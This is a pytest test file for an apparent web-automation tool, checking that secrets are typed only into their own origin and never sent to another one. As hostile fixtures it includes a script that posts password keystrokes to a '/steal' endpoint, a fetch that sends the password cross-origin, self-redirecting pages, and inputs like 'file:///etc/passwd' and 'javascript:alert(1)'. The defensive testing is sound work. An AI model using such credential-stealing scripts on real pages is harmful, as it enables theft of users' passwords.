"""Issue 13, secrets and origins: a secret is typed only into the flow's origin, checked in the element's
own frame at the moment of typing; requests carrying it to another origin are blocked; a `do` whose
start page moves to another site is refused. 127.0.0.1 and localhost are two origins of one server."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page

from webmem.errors import OriginError
from webmem.flow.flowfile import parse_flow
from webmem.flow.inputs import Redactor
from webmem.page import guard
from webmem.playback.run import RunOptions, run_flow

from .test_hostile_files import flow_text

SECRET = "hunter2~x"
FOREIGN_FORM = """<title>sign in</title><form method=post action=/steal>
<input id=pw name=pw><button id=go>Go</button></form>
<script>document.getElementById('pw').addEventListener('input', (e) =>
  fetch('/steal', {method: 'POST', body: e.target.value}))</script>"""


def foreign(url: str) -> str:
    return url.replace("127.0.0.1", "localhost")


def stolen(hostile) -> list[bytes]:
    return [body + path.encode() for _, path, body in hostile.requests
            if path.startswith("/steal") and (b"hunter2" in body or "hunter2" in path)]


def test_a_secret_is_never_typed_into_a_frame_of_another_origin(page: Page, hostile) -> None:
    hostile.pages["/"] = FOREIGN_FORM
    page.goto(foreign(hostile.url) + "/")
    with pytest.raises(OriginError, match="refusing to type a secret into http://localhost"):
        guard.fill_secret(page.locator("#pw"), SECRET, hostile.url, Redactor([SECRET]))
    assert page.locator("#pw").input_value() == "" and not stolen(hostile)


def test_the_secret_never_leaves_for_another_origin(page: Page, hostile) -> None:
    hostile.pages["/"] = (f"<title>sign in</title><form method=post action={foreign(hostile.url)}/steal>"
                          "<input id=pw name=pw><button id=go>Go</button></form>"
                          f"<img id=beacon>")
    page.goto(hostile.url + "/")
    guard.fill_secret(page.locator("#pw"), SECRET, hostile.url, Redactor([SECRET]))
    assert page.locator("#pw").input_value() == SECRET  # on its own origin it is typed
    page.evaluate("(u) => fetch(u + '/steal?pw=' + encodeURIComponent(document.getElementById('pw').value))"
                  ".catch(() => null)", foreign(hostile.url))
    page.evaluate("(u) => fetch(u + '/steal-ok?x=1').catch(() => null)", foreign(hostile.url))
    page.click("#go")
    page.wait_for_timeout(300)
    assert not stolen(hostile), stolen(hostile)
    assert any(path.startswith("/steal-ok") for _, path, _ in hostile.requests)  # other requests still go
    # the flow's own origin is not slowed down or blocked
    page.goto(hostile.url + "/", timeout=5000)


def test_a_page_that_moves_itself_to_another_origin_gets_no_secret(page: Page, hostile) -> None:
    hostile.pages["/"] = FOREIGN_FORM.replace("/steal", "/local") + (
        f"<script>setTimeout(() => location.href = '{foreign(hostile.url)}/foreign', 30)</script>")
    hostile.pages["/foreign"] = FOREIGN_FORM
    text = flow_text(base_url=hostile.url, inputs="inputs:\n  pw: {secret: true}\n",
                     steps="  - goto: /\n  - fill: {target: {intent: the password, selectors: ['css=#pw']}, "
                           "value: '{{ pw }}'}\n")
    flow, _ = parse_flow(text)
    for _ in range(6):
        run_flow(page, flow, {"pw": SECRET}, RunOptions(base_url=hostile.url))
        page.wait_for_timeout(100)
    assert not stolen(hostile), stolen(hostile)


def test_do_refuses_a_start_page_that_redirects_to_another_site(webmem_cli, tmp_path: Path, hostile) -> None:
    hostile.pages["/"] = f"<title>x</title><script>location.href = '{foreign(hostile.url)}/foreign'</script>"
    hostile.pages["/foreign"] = FOREIGN_FORM
    proc = webmem_cli("do", hostile.url + "/", "--task", "Sign in", "--secret", "pw=HZ_PW",
                      "--store", str(tmp_path / "store"), "--agent", "heuristic", env={"HZ_PW": SECRET})
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "moved to another site" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert not stolen(hostile)
    assert not list((tmp_path / "store").glob("*.yaml"))


def test_memory_do_refuses_a_non_web_url_before_opening_it(page: Page, tmp_path: Path) -> None:
    from webmem.memory import Memory

    from webmem.errors import InputError

    for url in ("file:///etc/passwd", "javascript:alert(1)", "http://[::1"):
        with pytest.raises(InputError, match="is not a web address"):
            Memory(tmp_path, agent="heuristic").do(page, "read it", {}, url=url)
    assert page.url == "about:blank"
